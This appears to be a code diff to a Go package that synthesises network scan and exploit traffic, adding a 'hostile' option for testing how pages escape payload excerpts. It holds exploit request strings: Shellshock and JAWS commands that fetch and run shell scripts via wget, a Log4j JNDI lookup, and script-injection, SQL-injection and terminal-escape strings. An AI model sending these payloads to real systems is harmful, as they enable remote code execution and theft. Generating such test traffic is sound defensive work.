@@ -3,6 +3,7 @@ package synth
 import (
 	"bytes"
 	"strconv"
+	"strings"
 )
 
 // A template is a payload with "{HOST}" markers that are replaced by the
@@ -111,7 +112,7 @@ var probePorts = [numProbes][]uint16{
 	prSMB:   {445},
 }
 
-func buildPayloads() *payloadSet {
+func buildPayloads(hostile bool) *payloadSet {
 	p := &payloadSet{}
 	for _, c := range miraiCreds {
 		p.creds = append(p.creds, newTemplate(c[0]+"\r\n", false), newTemplate(c[1]+"\r\n", false))
@@ -158,6 +159,9 @@ func buildPayloads() *payloadSet {
 		p.http[exShock] = append(p.http[exShock], newTemplate(
 			"GET "+path+" HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: () { :;}; /bin/bash -c \"cd /var/tmp;wget http://203.0.113.50/ss.sh;sh ss.sh\"\r\n"+
 				"Accept: */*\r\nConnection: close\r\n\r\n", true))
+	}
+	if hostile {
+		addHostilePayloads(p)
 	}
 
 	// Benign probes: what research scanners and crawlers send after a SYN.
@@ -299,4 +303,24 @@ func clientHello() []byte {
 	body = append(body, ext...)
 	hs := append([]byte{0x01, 0x00, byte(len(body) >> 8), byte(len(body))}, body...)
 	return append([]byte{0x16, 0x03, 0x01, byte(len(hs) >> 8), byte(len(hs))}, hs...)
+}
+
+// addHostilePayloads adds exploit payloads that also carry markup, script
+// and control characters in their request line, headers and user agent
+// (Config.Hostile): each still holds its exploit pattern, so it counts as
+// exploit traffic, and every page that shows a payload excerpt must escape
+// it.
+func addHostilePayloads(p *payloadSet) {
+	p.http[exJAWS] = append(p.http[exJAWS], newTemplate(
+		"GET /shell?cd+/tmp;wget+http://203.0.113.45/<script>alert(1)</script>;sh+x HTTP/1.1\r\n"+
+			"User-Agent: \"><img src=x onerror=alert(1)>\r\nHost: {HOST}:80\r\n"+
+			"Referer: javascript:alert(document.cookie)\r\nConnection: close\r\n\r\n", true))
+	p.http[exLog4j] = append(p.http[exLog4j], newTemplate(
+		"GET /?q=</textarea><svg/onload=alert(1)> HTTP/1.1\r\nHost: {HOST}\r\n"+
+			"User-Agent: ${jndi:ldap://198.51.100.77:1389/<script>alert(2)</script>}\r\n"+
+			"X-Note: nul\x00byte \x1b[31;1mred\x1b[0m\x1b]0;pwned\x07 \u202etxt.exe\r\nAccept: */*\r\n\r\n", true))
+	p.http[exShock] = append(p.http[exShock], newTemplate(
+		"GET /cgi-bin/test-cgi HTTP/1.1\r\nHost: {HOST}\r\n"+
+			"User-Agent: () { :;}; echo '<script>alert(3)</script>' \"{{.}}\" '; DROP TABLE sessions; --\r\n"+
+			"X-Long: "+strings.Repeat("A", 1200)+"<img src=x onerror=alert(4)>\r\nConnection: close\r\n\r\n", true))
 }
